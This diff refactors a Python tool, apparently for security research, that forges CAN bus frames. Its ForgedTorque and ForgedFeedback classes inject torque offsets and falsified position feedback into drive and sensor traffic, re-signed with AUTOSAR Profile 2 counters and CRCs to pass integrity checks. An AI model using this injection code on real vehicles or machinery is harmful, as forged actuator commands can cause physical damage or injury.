@@ -17,8 +17,6 @@ MS = 1_000_000
 DRIVES, SENSORS = (1, 2), (3, 4)
 SYNC, NMT, HOST_HEARTBEAT = 0x080, 0x000, 0x77F
 STATUS_ENABLED = (0x1637).to_bytes(2, "little") + b"\x0a" + bytes(4)
-POSITION_LSB_RAD = 5.9921124526782858e-06
-TORQUE_LSB_NM = 1e-6
 ENABLE_OPERATION = b"\x0f\x00"
 EXTENDED, REMOTE, ERROR = 0x80000000, 0x40000000, 0x20000000
 """Flags of an identifier, as in linux/can.h."""
@@ -41,6 +39,15 @@ class Forger:
         database = cantools.database.load_string(dbc.decode("cp1252"), "dbc", strict=False)
         self._ids = {message.frame_id: data_ids(message) for message in database.messages}
         self.length = {message.frame_id: message.length for message in database.messages}
+        self._scale = {
+            (message.frame_id, signal.name): float(signal.scale)
+            for message in database.messages
+            for signal in message.signals
+        }
+
+    def counts(self, can_id: int, signal: str, value: float) -> int:
+        """Return a value in counts of a signal."""
+        return round(value / self._scale[can_id, signal])
 
     def sign(self, can_id: int, data: bytes, counter: int) -> bytes:
         """Return a frame of AUTOSAR Profile 2 with this counter and its CRC; bytes from 2 on are the payload."""
@@ -189,7 +196,7 @@ class ForgedTorque(Attack):
 
     def _forge(self, can_id: int, data: bytes, t_ns: int, step: int) -> Forged:
         added_Nm = self._offset_Nm + self._slope_Nm_s * t_ns * 1e-9
-        value = int.from_bytes(data[2:6], "little", signed=True) + round(added_Nm / TORQUE_LSB_NM)
+        value = int.from_bytes(data[2:6], "little", signed=True) + self.forger.counts(can_id, "torque", added_Nm)
         forged = data[:2] + value.to_bytes(4, "little", signed=True)
         return Forged(can_id, self.forger.sign(can_id, forged, (data[1] & 0x0F) + step))
 
@@ -226,7 +233,7 @@ class ForgedFeedback(Attack):
         offset_rad = self._offset_rad
         if self._slope_rad_s:
             offset_rad = min(offset_rad, self._slope_rad_s * t_ns * 1e-9)
-        value = int.from_bytes(data[:4], "little", signed=True) + round(offset_rad / POSITION_LSB_RAD)
+        value = int.from_bytes(data[:4], "little", signed=True) + self.forger.counts(can_id, "position", offset_rad)
         return Forged(can_id, value.to_bytes(4, "little", signed=True) + data[4:])
 
 
